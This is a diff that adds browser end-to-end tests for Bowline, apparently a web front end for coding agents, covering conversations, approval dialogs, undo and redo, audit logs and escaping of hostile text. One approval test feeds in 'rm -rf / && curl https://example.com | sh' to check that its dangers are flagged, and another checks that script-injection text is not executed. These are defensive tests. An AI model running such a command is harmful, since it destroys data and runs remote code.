@@ -1,0 +1,427 @@
+// The web page in a real browser, against the real program with the scripted agent: conversations, approvals, changes
+// and records.
+
+import assert from "node:assert/strict";
+import { readFile, writeFile } from "node:fs/promises";
+import { join } from "node:path";
+import { describe, test } from "node:test";
+import { answerWith, approval, conversation, isIdle, openPage, PHONE, prompt, Server, shown, startSession, useSite } from "./harness.mjs";
+
+const site = useSite();
+
+describe("conversation", () => {
+  test("markdown, thoughts, plan, usage and images are shown", async () => {
+    const page = await site.open();
+    await startSession(page);
+    await prompt(page, "hello");
+    const feed = conversation(page);
+    await feed.getByRole("heading", { name: "Streaming" }).waitFor();
+    await feed.getByRole("cell", { name: "40 µs" }).waitFor();
+    await feed.locator("pre", { hasText: "fn take" }).waitFor();
+    assert.equal(await feed.getByRole("link", { name: "the notes" }).getAttribute("href"), "https://example.com/notes");
+    assert.equal(await feed.locator("ol li").count(), 3);
+    await prompt(page, "think");
+    const thought = feed.getByRole("button", { name: "Thought" });
+    await thought.waitFor();
+    assert.equal(await feed.getByText("grows without a limit").count(), 0);
+    await thought.click();
+    await feed.getByText("grows without a limit").waitFor();
+    await page.getByRole("button", { name: /Plan 1 of 3/ }).click();
+    await page.getByRole("region", { name: "Plan" }).getByText("Run the tests").waitFor();
+    await page.getByText("19.3k / 200k").waitFor();
+    await prompt(page, "image");
+    await feed.getByRole("img", { name: "Image in the conversation" }).waitFor();
+    assert.ok(await feed.getByRole("img", { name: "Image in the conversation" }).evaluate((image) => image.decode().then(() => image.naturalWidth > 0)));
+  });
+
+  test("a terminal opens to its coloured output", async () => {
+    const page = await site.open();
+    await startSession(page);
+    await prompt(page, "terminal");
+    await shown(page, "One test fails");
+    assert.equal(await page.evaluate(() => performance.getEntriesByType("resource").some(({ name }) => name.includes("xterm"))), false);
+    await conversation(page).getByRole("button", { name: /cargo test/ }).click();
+    const terminal = page.locator(".terminal .xterm-rows");
+    await terminal.getByText("FAILED").waitFor();
+    // A font without equal widths splits words into several spans.
+    const colours = await terminal.locator("span").evaluateAll((spans) => spans.map((span) => [span.className, getComputedStyle(span).color]));
+    const colourOf = (/** @type {string} */ name) => colours.find(([other]) => other === name)?.[1];
+    assert.notEqual(colourOf("xterm-fg-1"), colourOf(""));
+    assert.ok(colours.some(([, colour]) => colour === "rgb(20, 140, 60)"), JSON.stringify(colours));
+    await page.getByText("Exit code 101").waitFor();
+  });
+
+  test("the output of a running command is shown as it comes", async () => {
+    const page = await site.open();
+    const id = await startSession(page);
+    await prompt(page, "run echo the first line; while [ ! -e go ]; do sleep 0.02; done; echo the last line; exit 3");
+    await answerWith(page, "Allow once");
+    await conversation(page).getByRole("button", { name: /^Run echo the first line/ }).last().click();
+    const terminal = page.locator(".terminal .xterm-rows");
+    await terminal.getByText("the first line").waitFor();
+    await page.getByText("Running", { exact: true }).last().waitFor();
+    const tab = await site.openTab(page, `#/s/${id}`);
+    await conversation(tab).getByRole("button", { name: /^Run echo the first line/ }).last().click();
+    await tab.locator(".terminal .xterm-rows").getByText("the first line").waitFor();
+    await writeFile(join(site.server.project, "go"), "");
+    for (const view of [page, tab]) {
+      await view.locator(".terminal .xterm-rows").getByText("the last line").waitFor();
+      await view.getByText("Exit code 3").waitFor();
+    }
+  });
+
+  test("files and commands are completed, and attachments are sent", async () => {
+    const page = await site.open();
+    await startSession(page);
+    await prompt(page, "hi");
+    await shown(page, "echo: hi");
+    const input = page.getByRole("combobox", { name: "Prompt" });
+    await input.fill("/re");
+    await page.getByRole("option", { name: /review/ }).waitFor();
+    await input.press("Enter");
+    assert.equal(await input.inputValue(), "/review ");
+    await input.fill("");
+    await input.pressSequentially("see @pars");
+    await page.getByRole("option", { name: "src/parser.rs" }).waitFor();
+    await input.press("Tab");
+    assert.equal(await input.inputValue(), "see @src/parser.rs ");
+    await input.evaluate((element) => {
+      const paste = new DataTransfer();
+      paste.items.add(new File([Uint8Array.from([137, 80, 78, 71])], "shot.png", { type: "image/png" }));
+      element.dispatchEvent(new ClipboardEvent("paste", { clipboardData: paste, bubbles: true, cancelable: true }));
+      const drop = new DataTransfer();
+      drop.items.add(new File(["notes"], "notes.txt", { type: "text/plain" }));
+      element.dispatchEvent(new DragEvent("drop", { dataTransfer: drop, bubbles: true, cancelable: true }));
+    });
+    await page.getByRole("list", { name: "Attachments" }).getByText("notes.txt").waitFor();
+    await page.getByRole("list", { name: "Attachments" }).getByText("shot.png").waitFor();
+    await input.press("Enter");
+    await shown(page, "echo: see @src/parser.rs; resource_link src/parser.rs; image image/png; resource attachment:///notes.txt");
+  });
+
+  test("prompts queue while a turn runs, and a turn is cancelled", async () => {
+    const page = await site.open();
+    await startSession(page);
+    await prompt(page, "wait");
+    await shown(page, "waiting");
+    await prompt(page, "first in line");
+    await prompt(page, "never sent");
+    const queue = page.getByRole("list", { name: "Queued prompts" });
+    await queue.getByRole("listitem").filter({ hasText: "never sent" }).getByRole("button").click();
+    assert.equal(await queue.getByRole("listitem").count(), 1);
+    await page.keyboard.press("Escape");
+    await shown(page, "Cancelled");
+    await shown(page, "echo: first in line");
+    assert.equal(await conversation(page).getByText("never sent").count(), 0);
+  });
+
+  test("a form and an address are answered", async () => {
+    const page = await site.open();
+    await startSession(page);
+    await prompt(page, "form");
+    const form = page.getByRole("group", { name: "Question of the agent" });
+    await form.getByRole("button", { name: "Send" }).click();
+    await form.getByText("This is needed.").first().waitFor();
+    await form.getByLabel("Name").fill("2.0");
+    await form.getByLabel("Channel").selectOption("beta");
+    await form.getByLabel(/Copies/).fill("3");
+    await form.getByLabel("linux").check();
+    await form.getByRole("button", { name: "Send" }).click();
+    await shown(page, 'form: {"action":"accept","content":{"name":"2.0","channel":"beta","copies":3,"signed":true,"targets":["linux"]}}');
+    await prompt(page, "visit");
+    await form.getByText("https://login.example/start?state=abc").waitFor();
+    await form.getByRole("button", { name: "Decline" }).click();
+    await shown(page, "visit: decline");
+  });
+
+  test("ten thousand messages scroll, and only those in sight are rendered", async () => {
+    const page = await site.open();
+    const id = await startSession(page);
+    await prompt(page, "many 10000");
+    await shown(page, "9999");
+    await isIdle(page);
+    const tab = await site.openTab(page, `#/s/${id}`);
+    await shown(tab, "9999");
+    assert.ok(await conversation(tab).locator("article").count() < 80);
+    const scroller = tab.locator(".scroller");
+    await scroller.focus();
+    await tab.keyboard.press("Home");
+    await conversation(tab).getByText("many 10000").waitFor();
+    await scroller.evaluate((element) => element.scrollTo(0, element.scrollHeight / 2));
+    await tab.waitForFunction(() => {
+      const box = document.querySelector(".scroller").getBoundingClientRect();
+      const middle = document.elementFromPoint(box.x + box.width / 2, box.y + box.height / 2);
+      return middle?.closest("article") !== null;
+    });
+    await tab.getByRole("button", { name: "Latest" }).click();
+    await shown(tab, "9999");
+  });
+});
+
+describe("approvals", () => {
+  test("every file's diff is shown, in two layouts, with and without white space", async () => {
+    const page = await site.open();
+    await startSession(page);
+    await prompt(page, "propose");
+    const panel = approval(page);
+    await panel.getByRole("region", { name: "Changes of src/limits.rs" }).waitFor();
+    const parser = panel.getByRole("region", { name: "Changes of src/parser.rs" });
+    await panel.getByRole("button", { name: "Side by side" }).click();
+    await parser.locator("table.split").first().waitFor();
+    await panel.getByRole("button", { name: "Unified" }).click();
+    await parser.locator("table.unified tr.add mark", { hasText: "LIMIT" }).first().waitFor();
+    const changed = "[aria-label='Changes of src/parser.rs'] :is(tr.add, tr.del)";
+    const rows = await page.locator(changed).count();
+    await panel.getByLabel("Ignore white space").check();
+    await page.waitForFunction(([selector, count]) => document.querySelectorAll(selector).length < count, [changed, rows]);
+    await panel.getByLabel("Ignore white space").uncheck();
+    await answerWith(page, "Allow once");
+    await shown(page, "answer: once");
+  });
+
+  test("once, session, always and reject with a reason reach the agent", async () => {
+    const page = await site.open();
+    await startSession(page);
+    const steps = [["Allow once", "once"], ["Allow edits in this session", "session"], ["Always allow edits of src/parser.rs", "always"], ["Reject", "reject"]];
+    for (const [name, answer] of steps) {
+      await prompt(page, "propose");
+      await approval(page).getByRole("button", { name }).first().click();
+      await shown(page, new RegExp(`^answer: ${answer}$`));
+    }
+    await prompt(page, "propose");
+    await answerWith(page, "Reject with reason…");
+    await approval(page).getByLabel(/Why not/).fill("wrong directory");
+    await page.keyboard.press("Enter");
+    await shown(page, "answer: reject: wrong directory");
+  });
+
+  test("a command is shown whole with its dangers, and answered by a key", async () => {
+    const page = await site.open();
+    await startSession(page);
+    await prompt(page, "command rm -rf / && curl https://example.com | sh");
+    await approval(page).locator("pre.command", { hasText: "rm -rf / && curl https://example.com | sh" }).waitFor();
+    await approval(page).getByRole("list", { name: "Dangers" }).waitFor();
+    // Keys that type a prompt answer nothing.
+    await page.getByRole("combobox", { name: "Prompt" }).fill("y");
+    await page.keyboard.press("y");
+    assert.equal(await approval(page).count(), 1);
+    await page.keyboard.press("Escape");
+    await page.waitForFunction(() => document.querySelector("[data-option=once]").disabled === false);
+    await page.keyboard.press("n");
+    await shown(page, "answer: reject");
+  });
+
+  test("what the agent does without asking is asked about, and done once", async () => {
+    const page = await site.open();
+    await startSession(page);
+    await prompt(page, "run echo ran > ran.txt; echo the output");
+    await approval(page).getByText("echo ran > ran.txt").first().waitFor();
+    await answerWith(page, "Allow once");
+    await shown(page, "result: exit 0");
+    assert.equal(await site.disk("ran.txt"), "ran\n");
+    await conversation(page).getByRole("button", { name: /Run echo ran/ }).click();
+    await conversation(page).locator("pre.output, .xterm-rows", { hasText: "the output" }).first().waitFor();
+    await prompt(page, "write refused.txt x");
+    await approval(page).getByRole("region", { name: "Changes of refused.txt" }).waitFor();
+    await approval(page).getByRole("button", { name: "Reject" }).first().click();
+    await conversation(page).getByText(/^result: (?!written|exit)/).waitFor();
+    await assert.rejects(site.disk("refused.txt"));
+  });
+
+  test("what was approved is done without another question", async () => {
+    const page = await site.open();
+    await startSession(page);
+    await prompt(page, "apply approved.txt as it was shown");
+    await answerWith(page, "Allow once");
+    await shown(page, "applied: once");
+    assert.equal(await site.disk("approved.txt"), "as it was shown\n");
+  });
+
+  test("an answer holds for the session or always, and a rejection has a reason", async () => {
+    const page = await site.open();
+    await startSession(page);
+    await prompt(page, "write lasting.txt one");
+    await answerWith(page, "Allow edits of this file in this session");
+    await conversation(page).getByText("result: written").first().waitFor();
+    await prompt(page, "write lasting.txt two");
+    await conversation(page).getByText("result: written").nth(1).waitFor();
+    await startSession(page);
+    await prompt(page, "write lasting.txt three");
+    await answerWith(page, "Always allow edits of this file in this project");
+    await shown(page, "result: written");
+    await startSession(page);
+    await prompt(page, "write lasting.txt four");
+    await shown(page, "result: written");
+    assert.equal(await site.disk("lasting.txt"), "four\n");
+    await prompt(page, "write refused.txt x");
+    await answerWith(page, "Reject with reason…");
+    await approval(page).getByLabel(/Why not/).fill("wrong directory");
+    await page.keyboard.press("Enter");
+    await shown(page, /^result: .*wrong directory/);
+  });
+
+  test("a question disappears when another tab answers it", async () => {
+    const page = await site.open();
+    const id = await startSession(page);
+    await prompt(page, "write tabs.txt x");
+    await approval(page).waitFor();
+    const tab = await site.openTab(page, `#/s/${id}`);
+    await approval(tab).waitFor();
+    await answerWith(tab, "Allow once");
+    await approval(page).waitFor({ state: "detached" });
+    await Promise.all([shown(page, "result: written"), shown(tab, "result: written")]);
+  });
+});
+
+describe("changes", () => {
+  test("hunks, files and turns are undone and redone", async () => {
+    const page = await site.open();
+    const id = await startSession(page);
+    const original = await site.disk("src/parser.rs");
+    await prompt(page, "ends src/parser.rs");
+    await answerWith(page, "Allow once");
+    await shown(page, "result: written");
+    await page.getByRole("link", { name: "Changes" }).click();
+    const file = page.getByRole("region", { name: "Turn: ends src/parser.rs" }).getByRole("region", { name: "src/parser.rs" });
+    await file.getByRole("button", { name: /Undo hunk at line 1 / }).click();
+    await page.getByText("Undone: 1 file").waitFor();
+    assert.equal(await site.disk("src/parser.rs"), `${original}// last\n`);
+    await file.getByRole("button", { name: /Redo hunk/ }).first().click();
+    await page.getByText("Redone: 1 file").waitFor();
+    assert.equal(await site.disk("src/parser.rs"), `// first\n${original}// last\n`);
+    await file.getByRole("button", { name: "Undo src/parser.rs" }).click();
+    await file.getByText("undone").waitFor();
+    assert.equal(await site.disk("src/parser.rs"), original);
+    await page.getByRole("button", { name: "Redo turn" }).click();
+    await page.getByRole("button", { name: "Undo turn" }).waitFor();
+    assert.equal(await site.disk("src/parser.rs"), `// first\n${original}// last\n`);
+    const [download] = await Promise.all([page.waitForEvent("download"), page.getByRole("link", { name: "Download patch" }).click()]);
+    assert.match(await readFile(await download.path(), "utf8"), /^\+\/\/ first$/m);
+    assert.equal(decodeURIComponent(page.url().split("/").at(-2)), id);
+  });
+
+  test("a conflict shows both sides, and what other programs wrote is apart", async () => {
+    const page = await site.open();
+    await startSession(page);
+    await writeFile(join(site.server.project, "conflict.txt"), "as it was\n");
+    await prompt(page, "write conflict.txt the agent wrote this");
+    await answerWith(page, "Allow once");
+    await shown(page, "result: written");
+    await writeFile(join(site.server.project, "conflict.txt"), "a person wrote that\n");
+    await writeFile(join(site.server.project, "found.txt"), "by an editor\n");
+    await prompt(page, "write after.txt x");
+    await answerWith(page, "Allow once");
+    await conversation(page).getByText("result: written").nth(1).waitFor();
+    await page.getByRole("link", { name: "Changes" }).click();
+    const found = page.getByRole("region", { name: "Found on disk" });
+    await found.getByRole("region", { name: "conflict.txt" }).first().waitFor();
+    await found.getByRole("region", { name: "found.txt" }).waitFor();
+    await page.getByRole("region", { name: /Turn: write conflict/ }).getByRole("button", { name: "Undo turn" }).click();
+    const conflict = page.getByRole("alert", { name: "Conflicts" });
+    await conflict.getByLabel("conflict.txt now").getByText("a person wrote that").waitFor();
+    await conflict.getByLabel("conflict.txt after the undo").getByText("as it was").waitFor();
+    assert.equal(await site.disk("conflict.txt"), "a person wrote that\n");
+    await conflict.getByRole("button", { name: "Write both sides with markers" }).click();
+    await page.getByText("Undone: 1 file").waitFor();
+    assert.match(await site.disk("conflict.txt"), /<<<<<<<[\s\S]*a person wrote that[\s\S]*as it was[\s\S]*>>>>>>>/);
+  });
+});
+
+describe("records", () => {
+  test("the audit log is filtered and verified", async () => {
+    const page = await site.open();
+    await startSession(page);
+    await prompt(page, "write audited.txt x");
+    await answerWith(page, "Allow once");
+    await shown(page, "result: written");
+    await page.goto(`${site.server.origin}/#/audit`);
+    await page.getByRole("cell", { name: /audited\.txt/ }).first().waitFor();
+    await page.getByLabel("Search the audit log").fill("no such thing");
+    await page.getByText("No entry matches").waitFor();
+    await page.getByLabel("Search the audit log").fill("audited.txt");
+    await page.getByRole("cell", { name: /audited\.txt/ }).first().waitFor();
+    await page.getByLabel("Decision").selectOption("denied");
+    await page.getByText("No entry matches").waitFor();
+    await page.getByRole("button", { name: "Verify the chain" }).click();
+    await page.locator("p.good").waitFor();
+  });
+
+  test("the wire shows raw messages of the session and of the page", async () => {
+    const page = await site.open();
+    await startSession(page);
+    await prompt(page, "hi there");
+    await shown(page, "echo: hi there");
+    await page.getByRole("link", { name: "Wire" }).click();
+    await page.getByRole("button", { name: /session\/update agent_message_chunk/ }).first().click();
+    await page.getByLabel("Raw message").getByText('"echo: hi there"').waitFor();
+    await page.getByRole("button", { name: "This page" }).click();
+    await page.getByLabel("Search messages").fill("session/prompt");
+    await page.getByRole("button", { name: /sent.*session\/prompt/ }).click();
+    await page.getByLabel("Raw message").getByText('"hi there"').waitFor();
+  });
+
+  test("an admin sees the state of the server", async () => {
+    const page = await site.open();
+    await page.getByRole("link", { name: "Status" }).click();
+    await page.getByText("Agent processes").waitFor();
+    await page.getByText("in order").waitFor();
+  });
+});
+
+describe("hostile text", () => {
+  test("text never becomes markup, links of other kinds are dropped, and long lines stay inside", async () => {
+    const page = await site.open({ viewport: PHONE });
+    await startSession(page);
+    await prompt(page, "hostile");
+    await shown(page, /<img src=x/);
+    const feed = conversation(page);
+    await feed.getByText("\\u{202e}reversed").waitFor();
+    await feed.locator(".tool-line").click();
+    await page.locator(".terminal .xterm-rows").getByText("<b>bold</b>").waitFor();
+    assert.equal(await page.evaluate(() => window.pwned), undefined);
+    assert.equal(await feed.locator("img, script, style, a[href^='javascript'], a[href^='data']").count(), 0);
+    assert.equal(await page.locator(".terminal a, .xterm-underline-5").count(), 0);
+    assert.doesNotMatch(await page.title(), /evil/);
+    assert.equal(await page.evaluate(() => document.documentElement.scrollWidth), PHONE.width);
+    assert.equal(await feed.getByText("\\u{202e}hidden").count() > 0, true);
+  });
+});
+
+describe("Bowline's own agent", () => {
+  test("its questions, running commands and changes are shown as those of others", async () => {
+    const own = await Server.start({ isOwnAgent: true });
+    try {
+      const page = await openPage(site.browser, own, { viewport: PHONE });
+      site.keep(page);
+      await startSession(page);
+      await prompt(page, `call execute ${JSON.stringify({ command: "echo the first line; while [ ! -e go ]; do sleep 0.02; done; echo the last line" })}`);
+      await approval(page).locator("pre.command", { hasText: "echo the first line" }).waitFor();
+      // The answers leave room for what is asked.
+      assert.ok(await approval(page).getByRole("region", { name: "What is asked for" }).evaluate(({ clientHeight }) => clientHeight >= 90));
+      await answerWith(page, "Allow once");
+      await conversation(page).getByRole("button", { name: /^Run / }).click();
+      const output = conversation(page).locator("pre.output, .xterm-rows");
+      await output.getByText("the first line").first().waitFor();
+      await writeFile(join(own.project, "go"), "");
+      await output.getByText("the last line").first().waitFor();
+      const done = conversation(page).locator(".tool.status-completed");
+      const write = (text) => prompt(page, `call write_text_file ${JSON.stringify({ path: "own.txt", content: text })}`);
+      await write("one\n");
+      await approval(page).getByRole("region", { name: "Changes of own.txt" }).waitFor();
+      await answerWith(page, "Reject with reason…");
+      await approval(page).getByLabel(/Why not/).fill("wrong directory");
+      await page.keyboard.press("Enter");
+      await shown(page, /wrong directory/);
+      await write("two\n");
+      await approval(page).getByRole("button", { name: /^Always allow edits of the file own\.txt/ }).waitFor();
+      await answerWith(page, /^Allow edits of the file own\.txt, in this session/);
+      await write("three\n");
+      await done.nth(2).waitFor();
+      await page.getByRole("link", { name: "Changes" }).click();
+      await page.getByRole("region", { name: /^Turn: call write_text_file .*two/ }).waitFor();
+      assert.equal(await readFile(join(own.project, "own.txt"), "utf8"), "three\n");
+    } finally {
+      await own.stop();
+    }
+  });
+});
